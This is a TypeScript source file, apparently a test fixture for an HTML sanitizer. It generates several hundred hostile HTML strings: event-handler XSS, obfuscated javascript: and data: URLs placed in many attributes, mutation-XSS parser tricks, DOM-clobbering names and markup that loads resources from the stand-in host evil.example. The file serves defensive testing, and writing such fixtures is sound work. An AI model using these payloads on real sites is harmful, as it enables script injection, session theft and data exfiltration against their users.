/**
 * Hostile HTML by the known ways to get a script to run, a request made or the page's own names taken, each in many
 * spellings. What runs says `a payload ran` in the console; what asks asks `evil.example`.
 */
const js = "globalThis.ran=1;console.error('a payload ran')";
const evil = 'https://evil.example/x';

const cross = (
  ones: readonly string[],
  others: readonly string[],
  join: (one: string, other: string) => string,
) => ones.flatMap((one) => others.map((other) => join(one, other)));

/** Elements that do something by themselves, or are easily made to. */
const handlers = cross(
  [
    '<img src=x',
    '<svg',
    '<video src=x',
    '<audio src=x',
    '<iframe',
    '<input autofocus',
    '<details open',

    '<a href=https://shop.example tabindex=0',
    '<b',
    '<math',
    '<object data=x',
    '<style',
    '<marquee',
    '<body',
  ],
  ['onerror', 'onload', 'onfocus', 'ontoggle', 'onpointerover', 'OnClick', 'onanimationstart'],
  (element, handler) => `${element} ${handler}="${js}">x`,
);
const spelledHandlers = ['/', '\t', '\n', '\f', '"', "'", '<!-- -->', '&#x20;', '=', '/**/'].map(
  (gap) => `<img${gap === '=' ? ' =' : gap}src=x${gap}onerror=${gap === '"' ? '"' : ''}${js}//>`,
);

const addresses = [
  `javascript:${js}`,
  `JaVaScRiPt:${js}`,
  ` javascript:${js}`,
  `\u0001javascript:${js}`,
  `java\tscript:${js}`,

  `java&#10;script:${js}`,
  `&#106;avascript:${js}`,
  `&#x6A;avascript&colon;${js}`,
  `javascript&Tab;:${js}`,

  `javascript://%0a${js}`,
  `data:text/html,<script>${js}</script>`,
  `vbscript:${js}`,
  `\u00a0javascript:${js}`,
  `data:text/html;base64,${btoa(`<script>${js}</script>`)}`,
  'blob:https://x/1',
  'file:///etc/passwd',
  `//evil.example`,
];
const sinks = [
  (address: string) => `<a href="${address}">x</a>`,
  (address: string) => `<img src="${address}">`,
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) => `<form action="${address}"><button>x</button></form>`,
  (address: string) => `<form><button formaction="${address}">x</button></form>`,
  (address: string) => `<object data="${address}"></object><embed src="${address}">`,
  (address: string) => `<svg><a xlink:href="${address}"><text>x</text></a><use href="${address}"/></svg>`,
  (address: string) => `<math href="${address}"><mi xlink:href="${address}">x</mi></math>`,
  (address: string) => `<base href="${address}"><a href="x">x</a>`,
  (address: string) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address: string) => `<svg><a><animate attributeName=href values="${address}"/><text>x</text></a></svg>`,
];
const links = addresses.flatMap((address) => sinks.map((sink) => sink(address)));

const image = `<img src=1 onerror="${js}">`;
/** What reads differently the second time, or in another place. */
const mutations = [
  `<noscript><p title="</noscript>${image.replaceAll('"', '')}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math>${image}`,
  `<svg></p><style><a id="</style>${image.replaceAll('"', '')}">`,
  `<math><annotation-xml encoding="text/html"><style>${image}</style></annotation-xml></math>`,
  `<select><template><style><!--</style><a rel="--></style></template></select>${image.replaceAll('"', '')}">`,
  `<svg><foreignObject><style><b title="</style>${image.replaceAll('"', '')}"></foreignObject></svg>`,
  `<math><mi><mglyph></mglyph><svg><mtext><textarea><path id="</textarea>${image.replaceAll('"', '')}">`,
  `<svg><title><style><!--</style></title>${image}--></svg>`,
  `<svg><desc><noscript>&lt;/noscript>${image}</desc></svg>`,
  `<table><math><select><mglyph><template><style>${image}`,
  `<template><p>${image}</template>`,
  `<template shadowrootmode=open>${image}<slot></slot></template>`,
  `<div><template shadowrootmode=open><script>${js}</script></template></div>`,
  `<!--><img src=x onerror=${js}>-->`,
  `<!--!>--><img src=x onerror=${js}>`,
  `<![CDATA[><img src=x onerror=${js}>]]>`,
  `<svg><![CDATA[><img src=x onerror=${js}>]]></svg>`,
  `<?xml version="1.0"?><?img ><img src=x onerror=${js}>?>`,
  `<xmp><p title="</xmp>${image.replaceAll('"', '')}">`,
  `<textarea><p title="</textarea>${image.replaceAll('"', '')}">`,
  `<title><p title="</title>${image.replaceAll('"', '')}">`,
  `<noembed><p title="</noembed>${image.replaceAll('"', '')}">`,
  `<iframe><p title="</iframe>${image.replaceAll('"', '')}">`,
  `<plaintext>${image}`,
  `<p id="${'<x>'.repeat(50)}${image.replaceAll('"', "'")}">`,
  `${'<div>'.repeat(600)}<table><caption><svg><title><style>${image}`,
  `${'<form><div>'.repeat(200)}<math><mtext>${image}`,
  `<b is="x-${'a'.repeat(9)}" onclick="${js}">x</b><x-y onfocus="${js}" tabindex=1>x</x-y>`,
  `<img src="x\`\`onerror=${js}//">`,
  `<a href="https://x"onmouseover="${js}">x</a><a href='x\`\`>'onclick=${js}>x</a>`,
  `&lt;script&gt;${js}&lt;/script&gt;<scr<script>ipt>${js}</scr</script>ipt>`,
  `<script>${js}</script><SCRIPT SRC="data:,${js}"></SCRIPT><script/x>${js}</script >`,
  `<svg><script>${js}</script><script href="data:,${js}"/></svg>`,
  `<svg><set attributeName=onmouseover to="${js}"/><animate onbegin="${js}" attributeName=x dur=1s /></svg>`,
  `<svg><handler type="text/javascript" ev:event="load">${js}</handler></svg>`,
  `<iframe srcdoc="<script>${js}</script>"></iframe><iframe srcdoc="&lt;img src=x onerror=${js}&gt;"></iframe>`,
  `<math><maction actiontype="statusline#${evil}" xlink:href="javascript:${js}">x</maction></math>`,
  `<isindex action="javascript:${js}" type=image><keygen autofocus onfocus="${js}">`,
  `<link rel=import href="data:text/html,<script>${js}</script>"><link rel=stylesheet href="${evil}">`,
];

/** Names that scripts of the page look up. */
const clobbers = cross(
  ['id', 'name'],
  [
    'panel',
    'attributes',
    'body',
    'config',
    'currentScript',
    'shopbell',
    'trustedTypes',
    'childNodes',
    'cookie',
  ],
  (attribute, name) =>
    `<form ${attribute}=${name}><input ${attribute}=${name}><img ${attribute}=${name}></form><a ${attribute}=${name} href="${evil}">x</a>`,
);

/** What would ask somebody for something. */
const requests = [
  `<img src="${evil}">`,
  `<img src=x srcset="${evil} 2x"><picture><source srcset="${evil}"><img></picture>`,
  `<img src="/relative">`,
  `<img src="//evil.example/x"><img lowsrc="${evil}" dynsrc="${evil}">`,
  `<video poster="${evil}" src="${evil}" autoplay></video><audio src="${evil}" autoplay></audio>`,
  `<video><source src="${evil}"><track default src="${evil}"></video>`,
  `<style>@import "${evil}";*{background:url(${evil})}</style>`,
  `<p style="background:url(${evil});position:fixed;inset:0">x</p>`,
  `<p style="list-style:url(${evil})" class="articles">x</p>`,
  `<table background="${evil}"><td background="${evil}">x</td></table><body background="${evil}">`,
  `<input type=image src="${evil}"><button form=x>x</button>`,
  `<svg><image href="${evil}"/><image xlink:href="${evil}"/><feImage href="${evil}"/></svg>`,
  `<svg><use href="${evil}#x"/><style>@import "${evil}"</style></svg>`,
  `<a ping="${evil}" href="https://shop.example/">x</a>`,
  `<link rel=dns-prefetch href="${evil}"><link rel=preconnect href="${evil}"><link rel=prefetch href="${evil}">`,
  `<link rel=stylesheet href="${evil}"><link rel=icon href="${evil}"><link rel=manifest href="${evil}">`,
  `<meta http-equiv=refresh content="0;url=${evil}"><meta http-equiv=set-cookie content="a=b">`,
  `<meta http-equiv=content-security-policy content="default-src 'none'"><meta name=referrer content=unsafe-url>`,
  `<base href="${evil}"><base target=_top>`,
  `<object data="${evil}"></object><embed src="${evil}"><applet archive="${evil}"></applet>`,
  `<frameset><frame src="${evil}"></frameset><portal src="${evil}"></portal><fencedframe></fencedframe>`,
  `<q cite="${evil}">x</q><blockquote cite="${evil}">x</blockquote><del cite="${evil}">x</del>`,
  `<form action="${evil}" id=f></form><input form=f name=x><button form=f autofocus>x</button>`,
  `<dialog open><form method=dialog><button>x</button></form></dialog><div popover id=p>x</div>`,
];

/** Several hundred texts; each is an article by itself. */
export const hostileHtml = [
  ...new Set([...handlers, ...spelledHandlers, ...links, ...mutations, ...clobbers, ...requests]),
];
